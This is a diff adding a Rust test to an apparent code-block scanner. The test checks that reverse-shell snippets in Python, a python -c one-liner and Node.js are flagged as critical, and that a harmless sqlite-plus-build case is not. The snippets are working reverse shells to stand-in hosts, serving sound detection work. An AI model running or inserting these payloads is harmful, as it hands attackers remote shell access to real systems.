@@ -183,3 +183,27 @@ fn a_command_line_downloaded_or_decoded_is_run_by_the_shell_call() {
         []
     );
 }
+
+#[test]
+fn a_script_that_wires_a_shell_to_a_socket_is_remote_code() {
+    assert_finds(
+        "```python\nimport socket,subprocess,os\ns=socket.socket()\ns.connect((\"198.51.100.7\",4444))\nos.dup2(s.fileno(),0)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 11),
+    );
+    // The same one line given to `python -c` in a shell block.
+    assert_finds(
+        "```bash\npython -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/bash\")'\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 7),
+    );
+    assert_finds(
+        "```js\nconst net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, 'h', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 8),
+    );
+    // A database connection beside a build script is neither.
+    assert_eq!(
+        findings(
+            "```python\nimport sqlite3, subprocess\nc = sqlite3.connect('x.db')\nsubprocess.run(['bash', 'build.sh'])\n```\n"
+        ),
+        []
+    );
+}
